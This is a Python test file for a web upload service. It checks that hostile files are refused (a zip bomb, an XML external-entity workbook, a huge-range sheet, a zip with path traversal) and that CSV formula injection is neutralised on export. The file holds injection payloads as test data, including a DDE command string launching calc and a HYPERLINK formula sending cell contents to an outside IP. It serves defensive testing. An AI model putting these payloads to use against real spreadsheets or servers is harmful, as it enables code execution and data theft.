"""Files made to do harm, handed over by the browser's door: refused or harmless, and told why.

Those that are too large to be taken stand in `test_processes`; empty ones, wrong types, odd names
in `test_uploads`; many more kinds, below the web, in `tests/sources`.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from jobs_here import run_jobs
from loads_here import CREDITORS, WESTWICK, hand_over, text_of, upload_of
from tiny import HEADER

import hostile
from totalplace import open_place
from totalplace.reports import write_table

pytestmark = pytest.mark.slow

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")

_REFUSED: dict[str, tuple[bytes, str]] = {
    "liar.zip": (
        hostile.lying_zip("a.csv", real=100_000, declared=2_000_000_000),
        "unpacks to 5865103 times its size",
    ),
    "entity.xlsx": (
        hostile.xlsx(hostile.sheet_of("Date|&e;", "1|2"), doctype=hostile.EXTERNAL),
        "The workbook cannot be read",
    ),
    "two-cells.xlsx": (hostile.two_cells(), "17,179,869,184 cells, and 20,000,000 are allowed"),
    "upwards.zip": (
        hostile.zipped({"../../../upwards.csv": hostile.CSV}),
        "a member is named &#x27;../../../upwards.csv&#x27;",
    ),
}


def test_hostile_files_are_refused_and_hurt_nobody_else(
    tinyshire_at_work: Path, signed_in: Any, tmp_path: Path
) -> None:
    folder = tinyshire_at_work
    client, other = signed_in("analyst", WESTWICK), signed_in("analyst", "eastwick-council")
    # what is loaded once in a process is there before anything is measured
    hand_over(other, CREDITORS, name="first.csv", body="Eastwick Council")
    run_jobs("look")
    with open_place(folder) as there:
        before = there.folder.state().sources
    for name, (content, why) in _REFUSED.items():
        with hostile.untouched():
            assert hand_over(client, content, name=name, body=WESTWICK).status_code == 302
            assert run_jobs("look") == ["done"]
        upload = upload_of(name)
        assert upload.status == "refused", name
        page = text_of(client.get(upload.page))
        assert "cannot be loaded" in page
        assert why in page, page
        assert "What you can do" in page
        assert "root:" not in page
        assert "Traceback" not in page
        assert client.post(f"{upload.page}load/").status_code == 400
    # nothing of them is anywhere, and somebody else goes on
    with open_place(folder) as there:
        assert there.folder.state().sources == before
        assert there.check().facts.problems == ()
    assert list((folder / "tmp").iterdir()) == []
    assert list(folder.parent.rglob("upwards*")) == []
    hand_over(other, CREDITORS.replace("Acme", "Bolt"), name="sound.csv", body="Eastwick Council")
    assert run_jobs("look") == ["done"]
    assert upload_of("sound.csv").status == "proposed"


def test_formulas_of_a_file_leave_it_as_text(
    tinyshire_at_work: Path, signed_in: Any, tmp_path: Path
) -> None:
    texts = ["=cmd|' /C calc'!A0", "+1+1 Ltd", "-2 Ltd", "@SUM(A1) Ltd", "＝1+1 Ltd", "\t=1 Ltd"]
    faulty = ['=HYPERLINK("http://192.0.2.1/?"&A1,"see") Ltd', "@x Ltd"]
    held = io.StringIO()
    writer = csv.writer(held)
    writer.writerow(HEADER.split(","))
    for text in texts:
        writer.writerow(["Westwick Council", "01/06/2017", text, "20.00", text, "Repairs"])
    for text in faulty:
        writer.writerow(["Westwick Council", "31/06/2017", text, "ten pounds", text, "Repairs"])
    client = signed_in("analyst", WESTWICK)
    hand_over(client, held.getvalue(), name="=formulas.csv", body=WESTWICK)
    run_jobs("look")
    upload = upload_of("=formulas.csv")
    assert upload.status == "ready", upload.found
    client.post(f"{upload.page}load/")
    assert run_jobs("load") == ["done"]
    result = upload_of("=formulas.csv").result["files"][0]
    assert (result["lines"], result["rejected"]) == (6, 2)

    # what was rejected, as a file that a person opens, and as a workbook
    rejects = client.get(f"/work/sources/{upload.sha256}/rejects/0.csv").content
    header, *rows = csv.reader(io.StringIO(rejects.decode("utf-8-sig")))
    assert len(rows) == 2
    assert [row[header.index("Supplier Name")] for row in rows] == [f"'{text}" for text in faulty]
    assert [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)] == []
    with open_place(tinyshire_at_work) as there:
        write_table(there.rejects(upload.sha256).to_arrow(), tmp_path / "rejects.xlsx")
        there.decide("*", what="licence", value="own", why=f"{texts[0]}\tagreed", who="=x")
    book = openpyxl.load_workbook(tmp_path / "rejects.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert any("HYPERLINK" in str(cell.value) for cell in cells)
    assert [cell.value for cell in cells if cell.data_type == "f"] == []

    # and what a person has written about it
    answer = signed_in("analyst", "*").get("/work/decisions.csv")
    header, *rows = csv.reader(io.StringIO(answer.content.decode("utf-8-sig")))
    assert rows[-1][header.index("why")].startswith("'=cmd")
    assert [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)] == []
